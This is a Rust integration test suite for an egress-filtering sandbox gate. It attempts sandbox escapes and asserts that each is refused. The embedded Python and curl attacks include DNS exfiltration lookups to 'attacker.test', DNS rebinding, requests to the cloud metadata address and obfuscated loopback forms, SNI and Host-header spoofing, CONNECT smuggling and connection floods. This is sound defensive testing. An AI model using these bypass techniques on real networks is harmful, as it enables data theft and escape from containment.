//! Attacks from inside the sandbox, each checked against evidence on the other side (what the
//! test hosts, their DNS server and the bait listeners saw). Needs root (see tests/world).

mod world;

use world::GateWorld as _;

use std::time::{Duration, Instant};

use airlock_egress::report::{Channel, Decision, Reason};
use airlock_egress::EgressConfig;

const TEST_RANGES: [&str; 3] = ["192.0.2.0/24:80", "192.0.2.0/24:443", "[2001:db8::/32]:443"];

fn with_ranges(names: &[&str]) -> Vec<String> {
    names
        .iter()
        .chain(TEST_RANGES.iter())
        .map(|s| s.to_string())
        .collect()
}

fn refusals(report: &airlock_egress::NetworkReport) -> Vec<(Option<String>, Reason)> {
    report
        .decisions
        .iter()
        .filter(|r| r.decision == Decision::Deny && r.channel != Channel::Dns)
        .map(|r| (r.name.clone(), r.reason))
        .collect()
}

#[test]
fn dns_exfiltration_through_unlisted_names_reaches_no_resolver() {
    let world = world_or_skip!();
    let started = world.start_gate(EgressConfig {
        allow: with_ranges(&["allowed.test"]),
        ..Default::default()
    });
    let code = r#"
import socket, time
start = time.time(); out = []
for name in ["c2VjcmV0.attacker.test", "secret-data.exfil.test", "allowed.test.attacker.test", "xallowed.test"]:
    try:
        socket.getaddrinfo(name, 443); out.append("resolved")
    except socket.gaierror as e:
        out.append("refused")
print(" ".join(out), round(time.time() - start, 1) < 2)
"#;
    assert_eq!(
        world.python(code).trim(),
        "refused refused refused refused True"
    );
    let report = started.gate.finish();
    let asked = world.seen.dns_names.lock().unwrap().clone();
    assert!(asked.is_empty(), "the test resolver was asked {asked:?}");
    let refused = report
        .decisions
        .iter()
        .filter(|r| r.channel == Channel::Dns && r.reason == Reason::NotAllowed)
        .count();
    assert!(refused >= 4, "{:#?}", report.decisions);
}

#[test]
fn dns_rebinding_to_loopback_gains_nothing() {
    let world = world_or_skip!();
    let started = world.start_gate(EgressConfig {
        allow: with_ranges(&["rebind.test"]),
        ..Default::default()
    });
    let (first, _) = world.curl(&["http://rebind.test/"]);
    assert_eq!(
        first.trim(),
        "host=rebind.test",
        "first answer: a test host"
    );
    let (second, _) = world.curl(&["-i", "http://rebind.test/"]);
    assert!(
        second.contains("X-Airlock-Egress: non_public_address"),
        "{second}"
    );
    let report = started.gate.finish();
    assert_eq!(
        world.seen.accepts("gate", 80),
        0,
        "the loopback bait was reached"
    );
    assert!(refusals(&report).contains(&(Some("rebind.test".into()), Reason::NonPublicAddress)));
}

#[test]
fn every_non_public_form_is_refused_by_name_and_by_number() {
    let world = world_or_skip!();
    let mut allow = with_ranges(&[
        "meta.test",
        "loop.test",
        "nat64.test",
        "mapped.test",
        "own.test",
    ]);
    allow.extend(["0.0.0.0/0:80".to_string(), "[::/0]:80".to_string()]);
    let started = world.start_gate(EgressConfig {
        allow,
        ..Default::default()
    });
    let proxy = started.proxy();
    let hosts = [
        "169.254.169.254",
        "2130706433",
        "0x7f.1",
        "0177.0.0.1",
        "127.1",
        "[::ffff:127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "[::1]",
        "[::127.0.0.1]",
        "[2002:7f00:1::]",
        "10.0.0.1",
        "100.64.0.1",
        "[fe80::1]",
        "0.0.0.0",
        "255.255.255.255",
        "224.0.0.1",
        "meta.test",
        "loop.test",
        "nat64.test",
        "mapped.test",
    ];
    for host in hosts {
        let (out, _) = world.curl(&["-i", "-x", &proxy, &format!("http://{host}/")]);
        assert!(
            out.contains("X-Airlock-Egress: non_public_address"),
            "{host}: {out}"
        );
    }
    let (out, _) = world.curl(&["-i", "-x", &proxy, "http://own.test/"]);
    assert!(
        out.contains("X-Airlock-Egress: own_address"),
        "own.test: {out}"
    );
    let (out, _) = world.curl(&["-i", "http://meta.test/"]);
    assert!(
        out.contains("X-Airlock-Egress: non_public_address"),
        "transparent: {out}"
    );
    let socks = format!("socks5h://127.0.0.1:{}", started.proxy_port);
    let (out, code) = world.curl(&["-x", &socks, "http://2130706433/"]);
    assert_ne!(code, 0, "SOCKS5 numeric host: {out}");
    started.gate.finish();
    for (role, port) in [("gate", 80), ("gate", 8080)] {
        assert_eq!(
            world.seen.accepts(role, port),
            0,
            "bait {role}:{port} reached"
        );
    }
}

#[test]
fn an_allowed_name_on_a_port_not_allowed_fails_at_once() {
    let world = world_or_skip!();
    let started = world.start_gate(EgressConfig {
        allow: with_ranges(&["allowed.test"]),
        ..Default::default()
    });
    let start = Instant::now();
    let (out, code) = world.curl(&["https://allowed.test:8443/"]);
    assert_eq!(code, 7, "connection refused: {out}");
    assert!(start.elapsed() < Duration::from_secs(3));
    let (out, _) = world.curl(&["-i", "-x", &started.proxy(), "http://allowed.test:8080/"]);
    assert!(out.contains("X-Airlock-Egress: not_allowed"), "{out}");
    started.gate.finish();
    assert_eq!(world.seen.accepts("hosts", 8080), 0);
}

#[test]
fn sni_must_match_the_name_both_ways_through_connect_and_transparently() {
    let world = world_or_skip!();
    let allow = with_ranges(&["allowed.test"]);
    let started = world.start_gate(EgressConfig {
        allow,
        deny: vec!["denied.test".into()],
        ..Default::default()
    });
    let tls = |connect: &str, sni: &str| {
        format!(
            r#"
import socket, ssl
s = socket.create_connection(("127.0.0.1", {port}), timeout=10)
s.sendall(b"CONNECT {connect}:443 HTTP/1.1\r\nHost: {connect}:443\r\n\r\n")
head = b""
while b"\r\n\r\n" not in head:
    b = s.recv(1)
    if not b: break
    head += b
status = head.split(b"\r\n")[0].decode()
try:
    ctx = ssl.create_default_context(cafile="cert.pem"); ctx.check_hostname = False
    t = ctx.wrap_socket(s, server_hostname="{sni}")
    t.sendall(b"GET / HTTP/1.1\r\nHost: {sni}\r\n\r\n"); print(status, t.recv(100).decode().split("\n")[-2])
except (OSError, ssl.SSLError) as e:
    print(status, "tls-failed")
"#,
            port = started.proxy_port
        )
    };
    assert_eq!(
        world.python(&tls("allowed.test", "allowed.test")).trim(),
        "HTTP/1.1 200 Connection established sni=allowed.test"
    );
    assert_eq!(
        world.python(&tls("allowed.test", "denied.test")).trim(),
        "HTTP/1.1 200 Connection established tls-failed"
    );
    assert_eq!(
        world.python(&tls("denied.test", "allowed.test")).trim(),
        "HTTP/1.1 403 Forbidden tls-failed"
    );
    let transparent = r#"
import socket, ssl
for sni in ["other.test", None]:
    s = socket.create_connection(("allowed.test", 443), timeout=10)
    ctx = ssl.create_default_context(cafile="cert.pem"); ctx.check_hostname = False
    try:
        ctx.wrap_socket(s, server_hostname=sni); print("handshake")
    except (OSError, ssl.SSLError):
        print("tls-failed")
"#;
    assert_eq!(
        world
            .python(transparent)
            .split_whitespace()
            .collect::<Vec<_>>(),
        ["tls-failed", "tls-failed"]
    );
    let report = started.gate.finish();
    // A refused tunnel may leave a dialled connection that closes before any byte
    // ("handshake-failed"); what matters is that no other name ever reached the server.
    let snis: Vec<String> = world
        .tls_snis()
        .into_iter()
        .filter(|s| s != "handshake-failed")
        .collect();
    assert_eq!(
        snis,
        vec!["allowed.test"],
        "the TLS server saw only the allowed name"
    );
    let reasons: Vec<Reason> = refusals(&report).into_iter().map(|(_, r)| r).collect();
    for expected in [Reason::SniMismatch, Reason::Denied, Reason::SniMissing] {
        assert!(reasons.contains(&expected), "{expected:?} in {reasons:?}");
    }
}

#[test]
fn the_host_header_must_match_and_no_connect_rides_inside_a_stream() {
    let world = world_or_skip!();
    let started = world.start_gate(EgressConfig {
        allow: with_ranges(&["allowed.test"]),
        ..Default::default()
    });
    let (out, _) = world.curl(&["-i", "-H", "Host: other.test", "http://allowed.test/"]);
    assert!(
        out.contains("X-Airlock-Egress: host_mismatch"),
        "transparent: {out}"
    );
    let (out, _) = world.curl(&[
        "-i",
        "-x",
        &started.proxy(),
        "-H",
        "Host: other.test",
        "http://allowed.test/",
    ]);
    assert!(
        out.contains("X-Airlock-Egress: host_mismatch"),
        "absolute form: {out}"
    );
    let nested = format!(
        r#"
import socket
def status(s, request):
    head = b""
    try:
        s.sendall(request)
        while b"\r\n\r\n" not in head:
            b = s.recv(1)
            if not b: return "closed"
            head += b
    except OSError:
        return "reset"
    return head.split(b"\r\n")[0].decode()
p = socket.create_connection(("127.0.0.1", {port}), timeout=10)
outer = status(p, b"CONNECT allowed.test:80 HTTP/1.1\r\nHost: allowed.test:80\r\n\r\n")
inner = status(p, b"CONNECT other.test:80 HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
t = socket.create_connection(("allowed.test", 80), timeout=10)
captured = status(t, b"CONNECT other.test:80 HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
print(outer, "|", inner, "|", captured)
"#,
        port = started.proxy_port
    );
    let out = world.python(&nested);
    assert!(out.contains("200 Connection established | "), "{out}");
    assert!(
        !out.contains("| HTTP/1.1 200"),
        "a CONNECT inside a stream went through: {out}"
    );
    let report = started.gate.finish();
    assert!(
        !world
            .seen
            .hosts
            .lock()
            .unwrap()
            .iter()
            .any(|h| h.contains("other.test")),
        "{:?}",
        world.seen.hosts
    );
    let reasons: Vec<Reason> = refusals(&report).into_iter().map(|(_, r)| r).collect();
    assert!(
        reasons.contains(&Reason::HostMismatch) && reasons.contains(&Reason::ConnectInTunnel),
        "{reasons:?}"
    );
}

#[test]
fn raw_tcp_udp_and_icmp_to_other_addresses_fail_immediately_and_reach_nothing() {
    let world = world_or_skip!();
    let started = world.start_gate(EgressConfig {
        allow: with_ranges(&["allowed.test"]),
        ..Default::default()
    });
    let (udp_before, icmp_before) = (
        world.host_snmp("Udp", "InDatagrams"),
        world.host_snmp("Icmp", "InEchos"),
    );
    let code = r#"
import socket, time, errno
def tcp(host, port):
    try:
        socket.create_connection((host, port), timeout=5); return "connected"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))
def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    try:
        s.connect((host, port)); s.send(b"quic?" * 100); s.recv(10); return "answered"
    except OSError as e:
        return errno.errorcode.get(e.errno, "timeout")
def icmp(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(1)
    try:
        s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (host, 0)); return "sent"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))
start = time.time()
placeholder = socket.getaddrinfo("allowed.test", 443, socket.AF_INET)[0][4][0]
print(tcp("203.0.113.10", 22), tcp("192.0.2.10", 22), tcp("198.51.100.10", 80),
      udp("203.0.113.10", 53), udp(placeholder, 443), udp("192.0.2.53", 53),
      icmp("203.0.113.10"), icmp("192.0.2.10"), round(time.time() - start) < 6)
"#;
    let out = world.python(code);
    assert_eq!(
        out.split_whitespace().collect::<Vec<_>>(),
        [
            "ENETUNREACH",
            "ECONNREFUSED",
            "ENETUNREACH",
            "ENETUNREACH",
            "ECONNREFUSED",
            "ECONNREFUSED",
            "ENETUNREACH",
            "sent",
            "True"
        ],
        "{out}"
    );
    started.gate.finish();
    assert_eq!(
        world.host_snmp("Udp", "InDatagrams"),
        udp_before,
        "a UDP datagram reached the test hosts"
    );
    assert_eq!(
        world.host_snmp("Icmp", "InEchos"),
        icmp_before,
        "an echo request reached the test hosts"
    );
    assert_eq!(world.seen.accepts("hosts", 22), 0);
    assert!(world.seen.dns_names.lock().unwrap().is_empty());
}

#[test]
fn the_gate_and_the_hosts_loopback_cannot_be_reached_from_the_sandbox() {
    let world = world_or_skip!();
    let started = world.start_gate(EgressConfig {
        allow: with_ranges(&["allowed.test", "own.test"]),
        ..Default::default()
    });
    let code = r#"
import socket, errno
def tcp(host, port):
    try:
        s = socket.create_connection((host, port), timeout=5)
        s.sendall(b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\n\r\n")
        return s.recv(100).split(b"\r\n")[0].decode().replace(" ", "_") or "closed"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))
print(tcp("127.0.0.1", 80), tcp("::1", 80), tcp("192.0.2.1", 80), tcp("own.test", 80), tcp("127.0.0.1", 8080))
unix = [l.split()[-1] for l in open("/proc/net/unix").read().splitlines()[1:] if len(l.split()) > 7]
print("unix:", unix)
"#;
    let out = world.python(code);
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 2, "{out}");
    assert!(!lines[0].contains("200"), "{out}");
    assert_eq!(
        lines[1], "unix: []",
        "a named Unix socket is visible in the sandbox's namespace"
    );
    let listening = std::process::Command::new("ip")
        .args([
            "netns",
            "exec",
            &world.sandbox_ns,
            "cat",
            "/proc/net/tcp",
            "/proc/net/tcp6",
        ])
        .output()
        .unwrap();
    let ports: std::collections::BTreeSet<u16> = String::from_utf8_lossy(&listening.stdout)
        .lines()
        .filter(|l| l.split_whitespace().nth(3) == Some("0A"))
        .filter_map(|l| {
            l.split_whitespace()
                .nth(1)?
                .rsplit(':')
                .next()
                .and_then(|p| u16::from_str_radix(p, 16).ok())
        })
        .collect();
    assert_eq!(
        ports,
        [53, 80, 443, started.proxy_port].into_iter().collect(),
        "only the gate's listeners"
    );
    let report = started.gate.finish();
    for (role, port) in [("gate", 80), ("gate", 8080), ("gate", 443)] {
        assert_eq!(
            world.seen.accepts(role, port),
            0,
            "bait {role}:{port} reached"
        );
    }
    assert!(
        refusals(&report).contains(&(Some("own.test".into()), Reason::OwnAddress)),
        "{:#?}",
        refusals(&report)
    );
}

#[test]
fn a_program_ignoring_proxy_variables_works_for_allowed_names_and_fails_fast_otherwise() {
    let world = world_or_skip!();
    let started = world.start_gate(EgressConfig {
        allow: with_ranges(&["allowed.test"]),
        ..Default::default()
    });
    let (out, code) = world.curl(&["--noproxy", "*", "https://allowed.test/"]);
    assert_eq!((out.trim(), code), ("sni=allowed.test", 0));
    let start = Instant::now();
    let (out, code) = world.curl(&["--noproxy", "*", "https://other.test/"]);
    assert_eq!(code, 6, "could not resolve: {out}");
    assert!(
        start.elapsed() < Duration::from_secs(2),
        "took {:?}",
        start.elapsed()
    );
    started.gate.finish();
    assert_eq!(world.tls_snis(), vec!["allowed.test"]);
}

#[test]
fn a_flood_of_silent_connections_is_held_to_the_concurrent_cap() {
    let world = world_or_skip!();
    let limits = airlock_egress::policy::LimitsConfig {
        concurrent: Some(4),
        ..Default::default()
    };
    let started = world.start_gate(EgressConfig {
        allow: with_ranges(&["allowed.test"]),
        limits,
        ..Default::default()
    });
    let code = r#"
import socket, time
start = time.time(); held = []; refused = 0
for _ in range(12):
    try:
        held.append(socket.create_connection(("allowed.test", 443), timeout=5))
    except ConnectionResetError:
        refused += 1
time.sleep(0.5)
for s in held:
    s.setblocking(False)
    try:
        s.recv(1)
    except BlockingIOError:
        continue
    except OSError:
        refused += 1
print(refused, round(time.time() - start) < 3)
"#;
    assert_eq!(
        world.python(code).trim(),
        "8 True",
        "silent connections past the cap are reset at once"
    );
    let report = started.gate.finish();
    let over: usize = report
        .decisions
        .iter()
        .filter(|r| r.reason == Reason::LimitConcurrent)
        .count();
    // create_connection may try the IPv6 placeholder, then the IPv4 one: each reset is one record.
    assert!(over >= 8, "{over}");
}
